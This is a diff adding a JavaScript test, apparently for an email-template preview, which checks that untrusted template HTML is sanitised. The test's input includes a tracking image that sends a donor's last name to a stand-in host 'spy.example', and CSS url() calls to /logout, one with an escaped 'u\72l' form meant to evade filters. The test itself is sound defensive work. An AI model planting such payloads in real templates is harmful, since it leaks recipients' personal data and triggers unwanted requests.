@@ -119,3 +119,19 @@ it("a test goes to oneself; a server that sends none says so once, and offers it
   await expect.poll(page).toContain("Questo server non sa inviare prove.");
   expect([...scene.shadow.querySelectorAll("button")].map((one) => one.textContent)).not.toContain("Invia una prova");
 });
+
+it("a template of others asks nobody's server for what is known of a donor, and nothing of the host page", async () => {
+  const asks = 'src="https://spy.example/a.png?n={{lastName}}"';
+  const css = "td { background: url(/logout) } p { background: u\\72l(/logout) }";
+  const html = `<style>${css}</style><style media="print">p { color: red }</style><p style="background-image:url('/out')">Ciao</p><img ${asks} alt="Spia"><img src="https://ok.example/{{cardNumber}}.png" alt="Due">`;
+  await open({ template: { _id: "t1", name: "Loro", subject: "Ciao", html, text: "Ciao" } });
+  await expect.poll(() => body("Computer")?.textContent).toContain("Ciao");
+  expect(body("Computer")?.textContent).not.toContain("color");
+  expect([...body("Computer")!.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual([
+    null,
+    null,
+  ]);
+  const sheets = [...(frame("Computer")?.contentDocument?.adoptedStyleSheets ?? [])];
+  expect(sheets.flatMap(({ cssRules }) => [...cssRules].map(({ cssText }) => cssText)).join()).not.toContain("url(");
+  expect(body("Computer")?.querySelector("p")?.style.backgroundImage).toBe("");
+});
